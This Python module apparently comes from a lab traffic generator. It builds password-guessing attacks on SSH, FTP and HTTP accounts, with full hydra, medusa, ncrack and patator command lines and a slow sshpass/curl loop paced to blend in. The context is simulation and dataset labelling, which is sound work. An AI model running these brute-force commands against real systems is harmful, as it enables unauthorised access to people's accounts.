"""Password guessing on SSH, FTP and HTTP: hydra, medusa, ncrack, patator, and slow scripts of our own."""

import subprocess

from ..content import WORDS
from ..plan import Activity
from ..servers import USERS
from . import between
from .benign_shell import SSH

PORTS = {"ssh": 22, "ftp": 21, "http": 80}
TOOLS = {"ssh": ["hydra", "hydra", "medusa", "ncrack", "patator", "script"], "ftp": ["hydra", "hydra", "medusa", "ncrack", "patator", "script"],
         "http": ["hydra", "medusa", "patator", "script"]}


def guess(plan, attacker, server, service, tool, guesses, at_once=4, wait_s=0.0, finds=False):
    """`guesses` passwords on one account (or a few), `at_once` side by side; `finds` puts the right one last."""
    def body(stage):
        where, user = stage.ip(server), stage.rng.choice(list(USERS) + ["root", "admin"])
        words = [stage.rng.choice(WORDS) + str(stage.rng.randint(0, 9999)) for _ in range(guesses)]
        if finds:
            words.append(USERS.get(user, "x"))
        listing = f"{stage.scratch}/words"
        with open(listing, "w") as file:
            file.write("\n".join(words) + "\n")
        if tool == "script":
            by_script(stage, service, where, user, words, wait_s)
        else:
            # An open pipe as input: patator reports its progress without end when its input is at its end.
            stage.run(*COMMANDS[tool](service, where, user, listing, at_once, wait_s), env={"HOME": stage.scratch}, stdin=subprocess.PIPE)
    # A found FTP password may be used at once, over a data connection: such a row names no port.
    return Activity(f"{tool} {service} x{at_once} {attacker}->{server}", tool, "bruteforce", attacker,
                    [between(plan, attacker, server, "" if service == "ftp" else PORTS[service])], body, linger_s=5.0)


def hydra(service, where, user, listing, at_once, wait_s):
    """hydra's command line."""
    pace = ["-W", int(wait_s)] if wait_s >= 1 else []
    target = {"ssh": f"ssh://{where}", "ftp": f"ftp://{where}", "http": f"http-get://{where}/private/"}[service]
    return ["hydra", "-I", "-l", user, "-P", listing, "-t", at_once, *pace, target]


def medusa(service, where, user, listing, at_once, wait_s):
    """medusa's command line."""
    extra = ["-m", "DIR:/private/"] if service == "http" else []
    return ["medusa", "-h", where, "-u", user, "-P", listing, "-t", at_once, "-M", service, *extra]


def ncrack(service, where, user, listing, at_once, wait_s):
    """ncrack's command line."""
    return ["ncrack", "--user", user, "-P", listing, f"{service}://{where},CL={at_once},cd={int(wait_s * 1000)}ms"]


def patator(service, where, user, listing, at_once, wait_s):
    """patator's command line."""
    rate = ["--rate-limit", wait_s] if wait_s else []
    # http_fuzz of patator 0.9 refuses today's libcurl unless it is given some name to resolve.
    common = ["-t", at_once, *rate, "-x", "ignore:fgrep=Nothing"]
    return {"ssh": ["patator", "ssh_login", f"host={where}", f"user={user}", "password=FILE0", f"0={listing}", *common],
            "ftp": ["patator", "ftp_login", f"host={where}", f"user={user}", "password=FILE0", f"0={listing}", *common],
            "http": ["patator", "http_fuzz", f"url=http://{where}/private/", f"user_pass={user}:FILE0", f"resolve=lab.example:{where}", f"0={listing}", *common]}[service]


COMMANDS = {"hydra": hydra, "medusa": medusa, "ncrack": ncrack, "patator": patator}


def by_script(stage, service, where, user, words, wait_s):
    """One guess after another with uneven pauses, by clients that people use."""
    for word in words:
        if service == "ssh":
            stage.run("sshpass", "-p", word, "ssh", *SSH, "-o", "PubkeyAuthentication=no", "-o", f"NumberOfPasswordPrompts={stage.rng.choice([1, 1, 3])}",
                      f"{user}@{where}", "true", timeout_s=12)
        else:
            path = {"ftp": f"ftp://{where}/", "http": f"http://{where}/private/"}[service]
            stage.run("curl", "-s", "-m", "8", "-u", f"{user}:{word}", "-o", "/dev/null", path, timeout_s=10)
        if not stage.pause(wait_s * 0.3, wait_s * 1.7 + 0.01):
            break


def draw(rng, plan, attacker, servers):
    """Random guessing and the seconds it may take. `servers` maps a service to the hosts that offer it."""
    service = rng.choice(["ssh", "ssh", "ssh", "ftp", "ftp", "http"])
    tool = rng.choice(TOOLS[service])
    at_once, wait = rng.choice([1, 4, 8, 16, 16]), rng.choice([0, 0, 0, 0, 1.0, 3.0])
    return rng.choice([40, 60, 90]), guess(plan, attacker, rng.choice(servers[service]), service, tool, rng.choice([15, 40, 80, 200]), at_once, wait, rng.random() < 0.2)
